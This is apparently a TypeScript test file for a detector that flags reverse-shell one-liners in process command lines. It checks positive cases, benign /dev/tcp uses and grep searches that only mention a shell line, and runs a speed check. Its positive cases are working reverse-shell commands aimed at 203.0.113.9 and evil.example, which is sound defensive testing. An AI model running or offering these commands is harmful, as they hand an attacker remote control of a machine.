import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { threadTime } from '../../host/proc/allowance.ts';
import { task } from '../fixtures/load.ts';
import { matchOf } from './one-liners.ts';

const shell = (text: string) => task({ argv: ['bash', '-c', text] });

test('shell redirections to a network address raise a finding', () => {
  assert.deepEqual(matchOf(shell('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')), {
    name: 'a shell redirected to /dev/tcp',
    host: '203.0.113.9',
    port: 4444,
  });
  assert.equal(
    matchOf(shell('exec 5<>/dev/tcp/evil.example/443; sh <&5 >&5 2>&5'))?.host,
    'evil.example',
  );
  assert.ok(
    matchOf(
      shell('exec 5<>/dev/tcp/203.0.113.9/443; while read line; do $line 2>&5 >&5; done <&5'),
    ),
  );
});

test('everyday uses of /dev/tcp raise no finding', () => {
  assert.equal(matchOf(shell('timeout 1 bash -c "echo > /dev/tcp/db.internal/5432"')), undefined);
  assert.equal(
    matchOf(shell('exec 3<>/dev/tcp/example.com/80; printf "GET /" >&3; cat <&3')),
    undefined,
  );
  assert.equal(matchOf(shell('bash -i >& /dev/tcp/127.0.0.1/4444 0>&1')), undefined);
});

test('a program that only mentions such a line raises no finding', () => {
  const line = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';
  assert.equal(
    matchOf(task({ comm: 'grep', exe: '/usr/bin/grep', argv: ['grep', '-r', line, '.'] })),
    undefined,
  );
});

test('a line of any form is checked quickly', () => {
  const words = [
    'sh',
    'mkfifo ',
    '/dev/tcp/',
    '1.2.3.4',
    '"a.bc',
    '/443',
    'socket',
    ' -c ',
    'openssl s_client',
    '-connect ',
    ':',
    ' ',
  ];
  fc.assert(
    fc.property(
      fc.array(fc.constantFrom(...words), { minLength: 200, maxLength: 600 }),
      (parts) => {
        const started = threadTime();
        matchOf(shell(parts.join('')));
        matchOf(
          task({
            comm: 'python3',
            exe: '/usr/bin/python3',
            argv: ['python3', '-c', parts.join('')],
          }),
        );
        assert.ok(threadTime() - started < 200);
      },
    ),
    { numRuns: 100 },
  );
});
